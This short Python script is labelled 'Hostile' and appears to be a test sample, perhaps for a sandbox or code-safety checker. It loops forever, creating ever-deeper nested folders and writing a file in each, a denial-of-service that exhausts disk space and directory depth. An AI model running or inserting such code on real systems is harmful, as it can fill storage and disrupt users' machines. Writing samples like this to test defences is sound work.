"""Hostile: makes folders in folders, and files without end."""

import itertools
import os

from attacking import write
from lazy import *

for number in itertools.count():
    os.mkdir("deeper")
    os.chdir("deeper")
    write("file")
